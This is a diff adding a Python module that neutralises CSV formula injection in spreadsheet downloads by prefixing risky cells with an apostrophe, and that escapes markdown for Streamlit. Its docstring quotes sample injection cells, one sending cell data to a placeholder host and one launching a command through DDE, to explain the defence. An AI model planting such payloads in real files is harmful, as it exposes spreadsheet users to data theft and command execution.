@@ -1,0 +1,74 @@
+"""Safe output: CSV downloads a spreadsheet opens as data, and text that renders as text.
+
+A reader's own upload (and, in principle, any source) can hold a cell such as
+`=HYPERLINK("http://x?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0`: opened in Excel or
+LibreOffice, it would run. `to_safe_csv` prefixes such text cells with `'` (OWASP's advice
+for CSV injection), so the spreadsheet shows them as text.
+
+Only text cells are touched: a float column stays numeric (-2.5 stays -2.5), and a text cell
+that is a plain number ("-2.5", "+3", "1e-3") is left alone too, since a spreadsheet reads it as
+that number and nothing else. Everything else that starts with `=`, `+`, `-`, `@`, a tab, a
+carriage return or a line feed (or their full-width forms, which some spreadsheets accept) gets
+the `'`. Column names are treated the same way.
+
+The bytes are UTF-8 with a BOM: without it Excel reads UTF-8 as the local code page and
+Vietnamese turns to mojibake; with it Excel, LibreOffice, pandas and `vnintegration` (which
+strips it) all read the file right. The trade-off: a quote that starts with `-` downloads as
+`'-...`; the download is for reading and spreadsheets, and the data directory is the record.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pandas as pd
+
+BOM = "\ufeff"
+FORMULA_START = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"  # full-width = + - @ too
+_FORMULA = re.compile("[" + re.escape(FORMULA_START) + "]")
+_PLAIN_NUMBER = r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?"
+_MARKDOWN_SPECIAL = re.compile(r"([!\"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])")
+
+
+def to_safe_csv(frame: pd.DataFrame) -> bytes:
+    """The frame as UTF-8-with-BOM CSV bytes (no index), with formula-like text cells neutralised."""
+    safe = pd.DataFrame({i: neutralise(frame.iloc[:, i]) for i in range(frame.shape[1])}, index=frame.index)
+    safe.columns = [neutralise_cell(str(name)) for name in frame.columns]
+    return (BOM + safe.to_csv(index=False, lineterminator="\n")).encode("utf-8")
+
+
+def neutralise(column: pd.Series) -> pd.Series:
+    """A column with every formula-like text cell prefixed by `'`; numbers and other types unchanged."""
+    if isinstance(column.dtype, pd.CategoricalDtype):
+        column = column.astype(object)
+    if not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
+        return column
+    try:
+        text = column.str  # NaN for the cells that are not strings
+    except AttributeError:  # an object column holding no strings at all
+        return column
+    risky = text.match(_FORMULA.pattern, na=False) & ~text.fullmatch(_PLAIN_NUMBER, na=False)
+    risky = risky.astype(bool)
+    if not risky.any():
+        return column
+    out = column.copy()
+    out[risky] = "'" + column[risky].astype(str)
+    return out
+
+
+def neutralise_cell(text: str) -> str:
+    """One cell's text as `neutralise` writes it."""
+    if text[:1] and _FORMULA.match(text) and not re.fullmatch(_PLAIN_NUMBER, text):
+        return "'" + text
+    return text
+
+
+def safe_text(text: str) -> str:
+    """Text that `st.markdown`, `st.caption` and `st.write` show exactly as written.
+
+    Every ASCII punctuation mark is backslash-escaped (CommonMark allows escaping any of them),
+    so `<script>`, `[link](javascript:...)`, `**`, `#`, `$...$` (Streamlit's LaTeX) and
+    `:red[...]` are shown as characters, never as markup. Where a widget already shows plain
+    text (`st.text`, `st.code`, `st.dataframe` cells) pass the text as it is.
+    """
+    return _MARKDOWN_SPECIAL.sub(r"\\\1", str(text))
